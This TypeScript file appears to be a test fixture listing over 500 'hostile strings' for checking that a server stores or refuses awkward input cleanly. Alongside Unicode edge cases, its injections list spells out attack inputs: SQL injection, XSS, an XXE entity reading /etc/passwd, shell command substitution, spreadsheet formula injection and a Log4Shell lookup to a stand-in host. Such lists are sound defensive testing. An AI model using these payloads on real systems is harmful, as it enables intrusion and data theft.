/** Letters and marks that programs trip over: directions, joiners, combining, other planes, look-alikes, private and unassigned. */
const codePoints = [
  0x01, 0x07, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x1b, 0x1f, 0x7f, 0x80, 0x85, 0x9f, 0xa0, 0xad, 0x0130, 0x0131, 0x017f, 0x01c5, 0x0300, 0x0345, 0x034f, 0x0378, 0x05d0, 0x061c, 0x0640, 0x070f,
  0x0e33, 0x115f, 0x1160, 0x1680, 0x17b4, 0x180e, 0x1e9e, 0x2000, 0x2003, 0x2007, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202d, 0x202e, 0x202f, 0x2060, 0x2066, 0x2069,
  0x206f, 0x20dd, 0x2212, 0x2800, 0x3000, 0x3164, 0xd7a3, 0xe000, 0xf8ff, 0xfb01, 0xfb1d, 0xfdfa, 0xfe00, 0xfe0f, 0xfeff, 0xff01, 0xff5e, 0xffa0, 0xfff9, 0xfffc, 0xfffd, 0xfffe, 0xffff,
  0x10000, 0x1d11e, 0x1f1e7, 0x1f469, 0x1f4a9, 0x1f600, 0x1f937, 0x1fffe, 0x20000, 0x2f800, 0xe0001, 0xe0100, 0xf0000, 0x10ffff,
]

/** Half pairs and NUL: what PostgreSQL's text cannot hold. */
const unstorable = ['\u0000', 'a\u0000b', '\u0000\u0000', '\ud800', '\udc00', 'a\ud800b', '\udc00\ud800', '\ud83d', 'x\udfff', '\ud800\ud800']

const injections = [
  "'", "''", '"', "' or '1'='1", "'; drop table brand; --", "1; select pg_sleep(10)", "') or ('1'='1", '" or ""="', '-- ', '/* */', '$$', '$1', '$1$2', '${1+1}', '#{1+1}', '{{7*7}}', '<%= 7*7 %>', "\\'", '\\', '\\\\', '\\u0000', '\\x00', '%', '%%', '%s', '%n%n%n', '%00', '_', '__proto__',
  'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'undefined', 'null', 'NULL', 'nil', 'None', 'true', 'false', 'NaN', 'Infinity', '-Infinity', '0', '-0', '1', '1.0', '1e309', '0x10', '1/0', '1_000', '007', '9223372036854775808', '-1', '1e-400', '[]', '{}', '[object Object]', '{"a":1}', '[1,2', '(null)',
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', 'javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', '</textarea><script>', '<!--', ']]>', '<![CDATA[', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', '&lt;', '&#0;', '&amp;amp;', '<iframe srcdoc="x">',
  '../../../../etc/passwd', '..\\..\\windows\\system32', '/dev/null', 'C:\\con', 'file:///etc/passwd', '\\\\server\\share', '~', '*', '?', '|', '; ls', '`ls`', '$(ls)', '&& ls', '| ls', '> /tmp/x', 'CON', 'NUL', 'aux.txt', '.', '..', '...',
  '=1+1', '+1+1', '-1+1', '@SUM(A1)', '=cmd|\'/c calc\'!A0', '=HYPERLINK("http://x.example")', '\t=1+1', 'a,b', 'a;b', 'a"b', '"a,b"', 'a\r\nb', 'a\nb: c', 'Set-Cookie: a=b', 'HTTP/1.1 200 OK', '\r\n\r\n', 'GET / HTTP/1.1',
  '${jndi:ldap://x.example/a}', '() { :; }; echo', '*)(uid=*))(|(uid=*', '{"$gt":""}', '{"$where":"1"}', 'a=b&c=d', '?a[b]=c', '#', 'http://a/%%30%30', 'ﷺ', '﷽', 'ß', 'ẞ', 'İ', 'ı', 'ﬁ', 'Ω', 'Å', 'A\u030a', 'e\u0301', 'é', '\u0301', 'q\u0307\u0323', '👩‍👩‍👧‍👦', '🏳️‍🌈', '🇧🇷', '👍🏽', '1️⃣', '٠١٢٣', '１２３', '𝟘𝟙', '𝔘𝔫𝔦', 'שלום', 'مرحبا', 'ا لع ربية', '社會科學院', '部落格', '사회과학원', 'ひらがな', 'ｶﾀｶﾅ', 'ภาษาไทย', 'हिन्दी', 'Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗', 'Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮', '˙ɐnbᴉlɐ', '(╯°□°）╯︵ ┻━┻', '‮evil', '\u202etxt.exe', 'ＡＤＭＩＮ', 'аdmin', 'раypal',
  'São Tomé & Príncipe', "O'Brien", 'Jean-Luc', 'Müller-Lüdenscheid', 'x AE A-12', 'Null', 'Mr. O\'Neill "Bob"', 'Robert\'); DROP TABLE Students;--', '  leading', 'trailing  ', '  ', '\t', '\n', 'in  side', 'a\tb', 'a\u00a0b',
]

const repeated = ['a', 'é', '😀', '\u0301', ' ', '\u200b', "'", '<', '{', '(', '\\', '%'].flatMap((unit) => [40, 60, 61, 120, 121, 200, 201, 500, 5000].map((count) => unit.repeat(count)))

/** Strings of the kind that break programs: more than 500. Each is stored byte for byte or refused, never an error of the server. */
export const hostileStrings: readonly string[] = [
  ...new Set([
    ...unstorable, ...injections, ...repeated,
    ...codePoints.map((point) => String.fromCodePoint(point)), ...codePoints.map((point) => `a${String.fromCodePoint(point)}b`), ...codePoints.map((point) => String.fromCodePoint(point).repeat(3)),
  ]),
]
